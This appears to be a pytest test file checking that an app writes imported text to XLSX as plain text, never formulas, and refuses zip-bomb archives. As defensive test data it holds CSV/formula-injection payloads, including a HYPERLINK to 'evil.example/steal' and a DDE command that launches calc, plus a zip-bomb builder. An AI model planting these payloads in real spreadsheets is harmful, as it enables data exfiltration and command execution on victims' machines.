"""Every text we write to XLSX is text, never a formula (issue 16, item 1), and every XLSX we read
is checked before it is unpacked."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.cli import main
from app.db import Database
from app.xlsx import BadFile, check_archive, write_cell, write_row
from tests.exchange.sample import base_doc

STREET = '=HYPERLINK("http://evil.example/steal","Ленина")'
SERIAL = "=1+1"
HOSTILE = [STREET, SERIAL, "+7 (495) 000-00-00", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    out = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
                    out.add(cell.value)
    return out


def test_text_cells_starting_with_formula_signs_are_written_as_text(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    write_row(ws, HOSTILE)
    write_cell(ws, 2, 1, "=1+1")
    write_cell(ws, 2, 2, "Ива\x00нов\ud800")  # characters XML cannot hold: replaced, not fatal
    path = tmp_path / "t.xlsx"
    wb.save(path)
    assert "<f>" not in sheet_xml(path) and "<f " not in sheet_xml(path)
    # XML keeps a carriage return as a line feed
    assert texts(path) == {*(t.replace("\r", "\n") for t in HOSTILE), "Ива\ufffdнов\ufffd"}


@pytest.fixture
def hostile_db(sqlite_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
               ) -> Database:
    doc = base_doc(2)
    doc["buildings"][0]["street"] = STREET
    doc["meters"][0].update(key="CW-0", serial=SERIAL)
    doc["meters"][0]["next_verification"] = "2026-11-20"
    src = tmp_path / "hostile.json"
    src.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    assert main(["--db", sqlite_db.url, "import", str(src)]) == 0
    capsys.readouterr()
    return sqlite_db


def test_imported_street_and_serial_stay_text_in_every_sheet_we_write(
        hostile_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = hostile_db.url
    assert main(["--db", url, "readings", "export-blank", str(tmp_path / "blank"),
                 "--period", "2026-11"]) == 0
    verification = tmp_path / "поверка.xlsx"
    assert main(["--db", url, "meters", "verification", "--days", "30", "--today", "2026-11-01",
                 "--xlsx", str(verification)]) == 0
    assert main(["import", "--template", str(tmp_path / "tpl")]) == 0
    blank = next((tmp_path / "blank").glob("*.xlsx"))
    for path in (blank, verification, *sorted((tmp_path / "tpl").glob("*.xlsx"))):
        xml = sheet_xml(path)
        assert not re.search(r"<f[ >]", xml), path.name
    blank_texts = texts(blank)
    assert SERIAL in blank_texts
    assert any(STREET in t for t in blank_texts)  # the address line starts with the street
    ver_texts = texts(verification)
    assert SERIAL in ver_texts and any(t.startswith(STREET) for t in ver_texts)


def _bomb(unpacked: int) -> bytes:
    """A real XLSX whose sheet is padded with `unpacked` bytes of spaces (they pack ~1000×)."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["ID прибора", "Показание"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"</sheetData>", 1)
                data = head + b" " * unpacked + b"</sheetData>" + tail
            z.writestr(item.filename, data)
    return out.getvalue()


def test_zip_bomb_is_refused_from_its_directory() -> None:
    with pytest.raises(BadFile, match="архив-бомба"):
        check_archive(_bomb(20 * 2**20), "bomb.xlsx")
    check_archive(_bomb(1000), "fine.xlsx")
    with pytest.raises(BadFile, match="не XLSX"):
        check_archive(b"PK\x03\x04garbage" * 100, "broken.xlsx")
